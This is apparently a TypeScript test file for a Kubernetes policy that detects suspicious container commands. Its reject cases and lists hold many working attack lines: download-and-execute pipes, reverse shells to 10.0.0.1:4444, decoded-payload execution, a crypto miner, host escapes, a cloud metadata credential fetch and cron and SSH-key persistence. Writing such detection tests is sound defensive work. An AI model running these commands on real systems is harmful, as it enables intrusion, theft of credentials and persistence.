import { suspicionIn } from "../../lib/kubernetes/pods/suspicious-commands";
import { noSuspiciousCommands } from "../../policies/malicious-code-execution/no-suspicious-commands";
import { pod, UNKNOWN } from "../support/builders";
import { testPolicy } from "../support/policy-table";

const running = (...command: string[]) => pod({ "containers[0].command": command });

testPolicy(noSuspiciousCommands, {
  accepts: {
    "the image's own command": pod(),
    "a download to a file that is checked": running(
      "sh",
      "-c",
      "curl -fsSLo /tmp/a https://example.com/a && sha256sum -c a.sum",
    ),
    "a probe that falls back": pod({
      "containers[0].livenessProbe": { exec: { command: ["sh", "-c", "curl -f localhost || exit 1"] } },
    }),
    "a port that is waited for": running("sh", "-c", "until nc -z database 5432; do sleep 1; done"),
  },
  rejects: {
    "a download that is piped to a shell": {
      given: running("sh", "-c", "curl -s http://files.example.com/setup.sh | sh"),
      says: 'Pod "web" must not pipe a download into an interpreter (container "web", spec.containers[0].command)',
    },
    "a hook that opens a reverse shell": {
      given: pod({
        "containers[0].lifecycle": {
          postStart: { exec: { command: ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"] } },
        },
      }),
      says: 'Pod "web" must not open a reverse shell (container "web", spec.containers[0].lifecycle.postStart.exec.command)',
    },
    "a command that is split over command and args": {
      given: pod({
        "containers[0].command": ["sh", "-c"],
        "containers[0].args": ["echo cm0gLXJm | base64 -d | sh"],
      }),
      says: 'Pod "web" must not decode text and run it (container "web", spec.containers[0].command)',
    },
  },
  undecided: {
    "a word from an output": pod({ "containers[0].command": ["sh", "-c", UNKNOWN] }),
    "arguments from an output": pod({ "containers[0].args": UNKNOWN }),
  },
});

test.each([
  "wget -qO- https://example.com/i.sh | sudo bash",
  "curl https://example.com/x.py | python3 -",
  "bash <(curl -s https://example.com/x)",
  'sh -c "$(wget -O- example.com/x)"',
  "nc -e /bin/sh 10.0.0.1 4444",
  "ncat 10.0.0.1 4444 --exec /bin/bash",
  "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
  "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
  "python -c 'import pty; pty.spawn(\"/bin/sh\")'",
  'eval "$(echo aGk= | base64 --decode)"',
  "./xmrig -o stratum+tcp://pool.example.com:3333 --donate-level 1",
  "nsenter -t 1 -m -u -i -n -p -- bash",
  "chroot /host sh",
  "modprobe evil",
  "curl --unix-socket /var/run/docker.sock http://x/containers/json",
  "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
  "echo 'ssh-rsa AAAA' >> /root/.ssh/authorized_keys",
  "echo '* * * * * root x' > /etc/cron.d/x",
  "unset HISTFILE; history -c",
  "iptables -F",
])("%s is suspicious", (command) => {
  expect(suspicionIn(command)).toBeDefined();
});

test.each([
  "curl -s http://localhost:8080/health | grep ok",
  "curl https://example.com/data.json | jq .version > /data/version",
  "wget https://example.com/model.bin -O /models/model.bin",
  "echo $CONFIG | base64 -d > /etc/app/config",
  "nginx -g 'daemon off;'",
  "nc -lk -p 8080",
  "/bin/sh -c 'exec java -jar app.jar'",
  "python manage.py migrate && gunicorn app",
  "sh -c 'envsubst < a.tmpl > a.conf && nginx'",
  "node --max-old-space-size=512 server.js",
  "tail -f /var/log/app.log",
  "kubectl get pods | sh_script_name",
  "iptables -L",
  "sysctl net.core.somaxconn",
  "curl -X POST https://hooks.example.com/deploy",
])("%s is ordinary", (command) => {
  expect(suspicionIn(command)).toBeUndefined();
});
